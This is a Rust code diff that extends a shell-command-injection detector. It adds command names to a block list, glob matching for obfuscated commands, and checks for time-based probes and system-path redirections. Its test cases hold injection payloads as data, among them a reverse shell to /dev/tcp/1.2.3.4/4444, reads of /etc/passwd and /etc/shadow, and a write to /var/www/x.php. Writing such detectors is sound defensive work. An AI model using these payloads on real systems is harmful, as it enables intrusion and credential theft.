@@ -71,9 +71,23 @@ const STRONG: &[&str] = &[
     "mkfifo",
     "sh",
     "nc",
-    "uname",
     "id",
     "pwd",
+    "printenv",
+    "xargs",
+    "killall",
+    "pkill",
+    "pgrep",
+    "dmesg",
+    "lsb_release",
+    "sysctl",
+    "modprobe",
+    "insmod",
+    "lsmod",
+    "openssl",
+    "gawk",
+    "vssadmin",
+    "icacls",
 ];
 
 /// Commands that are also English words (or too short) and need shell-shaped arguments.
@@ -274,6 +288,92 @@ fn is_host_like(a: &str) -> bool {
         && (a.bytes().filter(|c| c.is_ascii_digit()).count() >= 4 || dots >= 2 || a.contains('`'))
 }
 
+/// Whether the shell glob `pattern` (`?` one character, `*` any run) matches `name`.
+/// A pattern shorter than two characters, or of wildcards only with a `*` (which
+/// names every command), names none. Greedy with one backtrack point, so the time is
+/// at most the product of the lengths whatever the stars (no exponential backtracking
+/// on hostile input).
+fn glob_names(pattern: &str, name: &str) -> bool {
+    let (p, n) = (pattern.as_bytes(), name.as_bytes());
+    if p.len() < 2 || p.iter().all(|&c| c == b'*' || c == b'?') && p.contains(&b'*') {
+        return false;
+    }
+    let (mut pi, mut ni) = (0, 0);
+    // the last `*` seen and where in `name` its run currently ends
+    let mut star: Option<(usize, usize)> = None;
+    while ni < n.len() {
+        if pi < p.len() && (p[pi] == b'?' || p[pi] == n[ni]) {
+            pi += 1;
+            ni += 1;
+        } else if pi < p.len() && p[pi] == b'*' {
+            star = Some((pi, ni));
+            pi += 1;
+        } else if let Some((sp, sn)) = star {
+            star = Some((sp, sn + 1));
+            pi = sp + 1;
+            ni = sn + 1;
+        } else {
+            return false;
+        }
+    }
+    p[pi..].iter().all(|&c| c == b'*')
+}
+
+/// `sleep 5` / `timeout 10` as a whole command: a number of seconds and then nothing
+/// but the end of the value or a shell operator (the blind, time-based probe). Text
+/// goes on after the number (`sleep 8 hours`).
+fn delay_alone(cmd: &str, arg: &str, rest: &str) -> bool {
+    // a closing backtick is a word byte to the argument scan: `sleep 5`
+    let (secs, closed) = match arg.strip_suffix('`') {
+        Some(n) => (n, true),
+        None => (arg, false),
+    };
+    matches!(cmd, "sleep" | "timeout")
+        && (1..=4).contains(&secs.len())
+        && secs.bytes().all(|c| c.is_ascii_digit())
+        && (closed
+            || rest
+                .trim_start_matches([' ', '\t'])
+                .bytes()
+                .next()
+                .is_none_or(|c| {
+                    matches!(c, b';' | b'|' | b'&' | b'`' | b')' | b'#' | b'\n' | b'\r')
+                }))
+}
+
+/// Directories of the system a command line names and text does not.
+const SYSTEM_DIRS: &[&str] = &[
+    "/etc/", "/bin/", "/sbin/", "/usr/", "/dev/", "/proc/", "/sys/", "/tmp/", "/var/", "/root/",
+    "/home/",
+];
+
+/// After a command's first argument, up to the end of the simple command: a second
+/// argument that is a path under a system directory (`grep root /etc/passwd`), or a
+/// redirection to a path or descriptor (`echo x > /tmp/f`, `2>&1`).
+fn later_shell_word(rest: &str) -> bool {
+    // The simple command ends at an operator (at most 128 bytes are read).
+    let end = rest
+        .find(['\n', '\r', ';', '|', '&', '`'])
+        .unwrap_or(rest.len())
+        .min(128);
+    let cmd = &rest[..end];
+    let second = cmd.split([' ', '\t']).find(|w| !w.is_empty()).unwrap_or("");
+    let second = second.trim_matches(['\'', '"']);
+    if SYSTEM_DIRS
+        .iter()
+        .any(|d| second.starts_with(d) && second.len() > d.len())
+    {
+        return true;
+    }
+    // A redirection's target is read past that end: `>&1` starts with an operator.
+    cmd.bytes().enumerate().any(|(i, c)| {
+        (c == b'>' || c == b'<') && {
+            let t = rest[i + 1..].trim_start_matches(['>', ' ']);
+            t.len() > 1 && (t.starts_with('/') || c == b'>' && t.starts_with('&'))
+        }
+    })
+}
+
 /// Checks the command at `i` (a command position). Returns a confidence.
 fn command_at(s: &str, i: usize, after_sep: bool) -> Option<(u8, usize)> {
     let b = s.as_bytes();
@@ -285,6 +385,11 @@ fn command_at(s: &str, i: usize, after_sep: bool) -> Option<(u8, usize)> {
     }
     let mut j = start;
     while j < b.len() && is_word_byte(b[j]) {
+        // an empty substitution splits nothing: `wh$()oami` is `whoami`
+        if b[j] == b'$' && b[j + 1..].starts_with(b"()") {
+            j += 3;
+            continue;
+        }
         if b[j] == b'$' && (b.get(j + 1) == Some(&b'{') || b[j + 1..].starts_with(b"IFS")) {
             break;
         }
@@ -307,8 +412,14 @@ fn command_at(s: &str, i: usize, after_sep: bool) -> Option<(u8, usize)> {
     }
     let cmd = norm_word(word);
     let cmd = cmd.strip_suffix(".exe").unwrap_or(&cmd).to_string();
-    let strong = STRONG.contains(&cmd.as_str());
-    let weak = WEAK.contains(&cmd.as_str());
+    let (strong, weak) = if word.contains(['/', '\\']) && cmd.contains(['?', '*']) {
+        // `/bin/c?t`, `/???/??t`: the shell expands the pattern to a command in the
+        // directory; any listed command it can name counts.
+        let named = |list: &[&str]| list.iter().any(|c| glob_names(&cmd, c));
+        (named(STRONG), named(WEAK))
+    } else {
+        (STRONG.contains(&cmd.as_str()), WEAK.contains(&cmd.as_str()))
+    };
     if !strong && !weak {
         return None;
     }
@@ -326,7 +437,11 @@ fn command_at(s: &str, i: usize, after_sep: bool) -> Option<(u8, usize)> {
             b';' | b'|' | b'&' | b'\n' | b'\r' | b')' | b'`' | b'#'
         );
     let redirect = k < b.len() && (b[k] == b'>' || b[k] == b'<') && redirect_target(&s[k..]);
-    let shell_arg = shellish_arg(arg) || glued_ifs || redirect;
+    let shell_arg = shellish_arg(arg)
+        || glued_ifs
+        || redirect
+        || delay_alone(&cmd, arg, &s[ae..])
+        || later_shell_word(&s[ae..]);
     let tick = i >= 1 && b[i - 1] == b'`';
     let tight = !tick || (start == i && memchr::memchr(b'`', &b[j..]).is_some());
     let conf = if substitution
@@ -489,9 +604,46 @@ mod tests {
             "a && w'h'o'am'i",
             "{cat,/etc/passwd}",
             "; /bin/bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
+            // glob patterns the shell expands to a command
+            ";/bin/c?t /etc/passwd",
+            "|/???/??t /etc/shadow",
+            "; /usr/bin/wh??mi",
+            // an empty substitution inside the command word
+            ";wh$()oami",
+            // the time-based blind probe
+            ";sleep 5",
+            "| sleep 10 #",
+            "`sleep 5`",
+            "&& timeout 7",
+            // a system path after the first argument, a redirection later in the command
+            ";grep root /etc/passwd",
+            "| sort -r /etc/group",
+            "; echo pwned > /tmp/x",
+            "; printf hi >> /var/www/x.php",
+            ";printenv",
+            "| xargs -n1",
         ] {
             assert!(hit(a), "missed {a}");
         }
+    }
+
+    #[test]
+    fn globs() {
+        assert!(glob_names("c?t", "cat"));
+        assert!(glob_names("??t", "cat"));
+        assert!(glob_names("wh*i", "whoami"));
+        assert!(glob_names("*ami", "whoami"));
+        assert!(glob_names("w*o*a*i*", "whoami"));
+        assert!(!glob_names("c?t", "cut!"));
+        assert!(!glob_names("*", "cat"));
+        assert!(!glob_names("**", "cat"));
+        assert!(!glob_names("?", "w"));
+        // many stars that almost match: linear backtracking, not exponential
+        let hostile = "a*".repeat(30) + "b";
+        assert!(!glob_names(
+            &hostile,
+            "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
+        ));
     }
 
     #[test]
@@ -508,6 +660,16 @@ mod tests {
             "hello; cat food is great",
             "Q&A | more info",
             "salt & pepper",
+            "Good night; sleep 8 hours",
+            "I need sleep 5",
+            "Q&A; more info /docs/faq",
+            "see below; find it in /usr/share/doc",
+            "price; more than 5 > 3",
+            "results: a > b; echo chamber",
+            "/search?q=1",
+            "docs; /api/v?/items",
+            "x; /*",
+            "rates & timeout 30 seconds",
         ] {
             assert!(!hit(b), "false positive on {b}: {:?}", detect(b, false));
         }
